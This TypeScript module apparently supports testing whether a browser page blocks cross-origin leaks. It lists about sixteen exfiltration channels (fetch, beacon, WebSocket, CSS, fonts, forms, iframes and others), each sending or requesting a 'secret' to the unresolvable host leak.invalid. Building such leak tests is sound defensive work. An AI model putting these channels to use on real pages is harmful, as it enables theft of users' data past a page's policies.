/**
 * Ways in which a script could send something to another origin. They are harmless: the domain can never exist (RFC
 * 6761, section 6.4), so even an attempt that is not blocked reaches nobody.
 */
const to = 'https://leak.invalid'

/** Adds an element that makes the attempt; returns how to remove it. */
function place(element: HTMLElement): () => void {
  element.hidden = true
  document.body.append(element)
  return () => element.remove()
}

const link = (rel: string, as?: string): (() => void) => {
  const element = document.createElement('link')
  element.rel = rel
  if (as) element.as = as
  element.href = `${to}/${rel}`
  return place(element)
}

type Attempt = () => unknown

/** Each attempt may throw, reject, or return how to clean up. */
export const pageChannels = {
  fetch: () => fetch(`${to}/fetch`, { method: 'POST', body: 'secret', mode: 'no-cors' }),
  xhr: () => {
    const request = new XMLHttpRequest()
    request.open('POST', `${to}/xhr`)
    request.send('secret')
  },
  beacon: () => navigator.sendBeacon(`${to}/beacon`, 'secret'),
  webSocket: () => {
    const socket = new WebSocket('wss://leak.invalid/socket')
    return () => socket.close()
  },
  eventSource: () => {
    const source = new EventSource(`${to}/events`)
    return () => source.close()
  },
  image: () => {
    new Image().src = `${to}/image`
  },
  cssImage: () => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background-image: url("${to}/css") }`)
    document.adoptedStyleSheets.push(sheet)
    return () => {
      document.adoptedStyleSheets = document.adoptedStyleSheets.filter((each) => each !== sheet)
    }
  },
  media: () => {
    const audio = document.createElement('audio')
    audio.src = `${to}/audio`
    audio.load()
  },
  font: () => new FontFace('Leak', `url("${to}/font.woff2")`).load(),
  styleSheet: () => link('stylesheet'),
  script: () => {
    const script = document.createElement('script')
    script.src = `${to}/script.js`
    return place(script)
  },
  frame: () => {
    const frame = document.createElement('iframe')
    frame.src = `${to}/frame`
    return place(frame)
  },
  object: () => {
    const object = document.createElement('object')
    object.data = `${to}/object`
    return place(object)
  },
  form: () => {
    const form = document.createElement('form')
    form.action = `${to}/form`
    form.method = 'post'
    // In another window, so that this page stays even if nothing blocks it.
    form.target = '_blank'
    const remove = place(form)
    form.submit()
    return remove
  },
  preload: () => link('preload', 'image'),
  blobWorker: () => new Worker(URL.createObjectURL(new Blob([''], { type: 'text/javascript' }))),
} as const satisfies Readonly<Record<string, Attempt>>

export type PageChannel = keyof typeof pageChannels
export const pageChannelNames = Object.keys(pageChannels) as readonly PageChannel[]
